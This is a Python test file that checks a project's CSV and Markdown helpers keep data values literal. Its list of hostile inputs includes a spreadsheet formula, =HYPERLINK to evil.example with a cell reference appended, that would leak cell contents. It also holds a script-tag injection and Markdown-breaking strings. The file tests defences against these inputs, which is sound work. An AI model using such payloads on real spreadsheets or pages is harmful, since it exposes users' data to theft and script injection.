"""Values from data written into CSV and Markdown stay values: no formula runs, no markup is injected."""

import csv
import html
import io

import pytest

from surgical_skill.markup import code_fence, csv_cell, markdown_inline, visible_controls

markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py (comes with huggingface_hub's CLI) renders")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "a|b",
    "line one\nline two",
    "<script>alert(1)</script>",
    "```\ncode",
    "*bold* _it_ `code` [link](http://x) ~~gone~~",
    "# heading",
    "- item",
    "back\\slash",
    "tab\there\rCR\x00nul",
]


def _render(text: str) -> str:
    return markdown_it.MarkdownIt("commonmark").enable("table").enable("strikethrough").render(text)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cell_neutralises_formula_starts(value):
    cell = csv_cell(value)
    assert cell == "'" + value
    row = next(csv.reader(io.StringIO(_csv_line([cell, -0.5]))))
    assert row[0] == "'" + value and not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def _csv_line(values) -> str:
    out = io.StringIO()
    csv.writer(out).writerow(values)
    return out.getvalue()


def test_csv_cell_leaves_numbers_and_plain_text():
    assert csv_cell(-0.5) == -0.5 and csv_cell(3) == 3 and csv_cell(None) is None
    assert csv_cell("expert") == "expert" and csv_cell("lower-skilled") == "lower-skilled"


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_inline_keeps_a_table_cell_one_literal_cell(value):
    table = "| class | recall |\n|---|---|\n" + f"| {markdown_inline(value)} | 0.5 |\n| next | 0.7 |\n"
    rendered = _render(table)
    assert "<script" not in rendered
    assert rendered.count("<tr>") == 3  # header + two rows: no row broken or added
    cells = rendered.split("<td>")[1:]
    assert len(cells) == 4
    first = html.unescape(cells[0].split("</td>")[0])
    assert first == visible_controls(value).replace("\x00", "\\x00")  # the literal text, nothing formatted
    assert cells[1].startswith("0.5") and cells[2].startswith("next")


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_inline_in_a_sentence_is_one_literal_paragraph(value):
    rendered = _render(f"Threshold for {markdown_inline(value)}: 0.5")
    assert rendered.count("<p>") == 1 and "<script" not in rendered
    for tag in ("<em>", "<strong>", "<code>", "<a ", "<h1>", "<li>", "<s>", "<del>"):
        assert tag not in rendered


def test_code_fence_cannot_be_closed_by_its_content():
    text = "model: x\nnote: |\n  ```\n  ````\n<script>alert(1)</script>\n"
    rendered = _render(code_fence(text, "yaml") + "\n\nafter\n")
    assert rendered.count("<pre>") == 1
    assert html.unescape(rendered.split("<code")[1].split(">", 1)[1].split("</code>")[0]) == text
    assert rendered.rstrip().endswith("<p>after</p>")
